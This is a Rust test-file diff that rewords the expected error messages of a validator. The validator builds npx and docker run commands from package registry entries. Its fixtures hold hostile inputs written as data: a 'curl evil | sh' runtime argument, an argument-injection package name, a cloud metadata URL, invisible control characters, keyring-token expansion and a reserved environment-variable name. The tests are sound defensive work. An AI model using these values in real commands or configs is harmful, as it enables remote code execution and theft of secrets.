@@ -39,26 +39,23 @@ fn each_kind_of_package_has_its_runner_and_an_exact_version() {
     check(of("oci", &image, None), Ok(&format!("docker run -i --rm {image}")));
     check(
         of("npm", "b", Some("latest")),
-        Err("the package `b` has no exact version, but `latest`"),
+        Err("the package `b` has no exact version, only `latest`"),
     );
     check(
         of("npm", "b", Some("^1.2.3")),
-        Err("the package `b` has no exact version, but `^1.2.3`"),
+        Err("the package `b` has no exact version, only `^1.2.3`"),
     );
     check(of("npm", "b", None), Err("the package `b` has no exact version"));
     check(
         of("oci", "a/b:latest", None),
-        Err("the package `a/b` has no exact version, but `latest`"),
+        Err("the package `a/b` has no exact version, only `latest`"),
     );
-    check(
-        of("cargo", "b", Some("1.0.0")),
-        Err("packages of the kind `cargo` cannot be run from here"),
-    );
-    check(of("npm", "--call=evil", Some("1.0.0")), Err("`--call=evil` is no package of that kind"));
+    check(of("cargo", "b", Some("1.0.0")), Err("type `cargo` is not supported"));
+    check(of("npm", "--call=evil", Some("1.0.0")), Err("invalid package name `--call=evil`"));
     check(
         json!({"registryType": "npm", "identifier": "b", "version": "1.0.0",
             "transport": {"type": "streamable-http", "url": "http://localhost:3000/mcp"}}),
-        Err("the package `b@1.0.0` is a program that listens by itself"),
+        Err("the package `b@1.0.0` serves HTTP and cannot be run over stdio"),
     );
 }
 
@@ -94,7 +91,7 @@ fn arguments_keep_their_order_and_optional_ones_are_left_out() {
     );
     check(
         with(json!([{"type": "positional", "valueHint": "folder", "isRequired": true}])),
-        Err("`folder` is needed and has no value"),
+        Err("`folder` is required but has no value"),
     );
     check(
         with(json!([{"type": "positional", "value": "{unknown}"}])),
@@ -117,7 +114,7 @@ fn hostile_values_are_refused_and_shell_words_stay_words() {
         with(json!({"type": "positional", "value": "${keyring:TOKEN}${HOME}"})),
         Ok("npx -y b@1.0.0 $${keyring:TOKEN}$${HOME}"),
     );
-    let unseen = "argument 1 has a character in it that nobody sees";
+    let unseen = "argument 1 contains an invisible character";
     check(with(json!({"type": "positional", "value": "a\u{1b}[2Jb"})), Err(unseen));
     check(with(json!({"type": "positional", "default": "a\u{202e}b"})), Err(unseen));
     check(with(json!({"type": "named", "name": "--a\n--b", "value": "c"})), Err(unseen));
@@ -127,17 +124,17 @@ fn hostile_values_are_refused_and_shell_words_stay_words() {
     );
     check(
         with(json!({"type": "named", "name": "--url", "value": "http://169.254.169.254/latest"})),
-        Err("argument 1 leads to the machine's own metadata"),
+        Err("argument 1 leads to a cloud metadata address"),
     );
     check(
         json!({"registryType": "npm", "identifier": "b", "version": "1.0.0", "runtimeHint": "bash",
             "runtimeArguments": [{"type": "named", "name": "-c", "value": "curl evil | sh"}]}),
-        Err("the argument `-c` for what runs the package is not taken from a registry"),
+        Err("the runner option `-c` is not allowed from a registry"),
     );
     check(
         json!({"registryType": "npm", "identifier": "b", "version": "1.0.0",
             "environmentVariables": [{"name": "A=B", "value": "x"}]}),
-        Err("the variable `A=B` has a name that is not taken"),
+        Err("the variable `A=B` has an invalid or reserved name"),
     );
 }
 
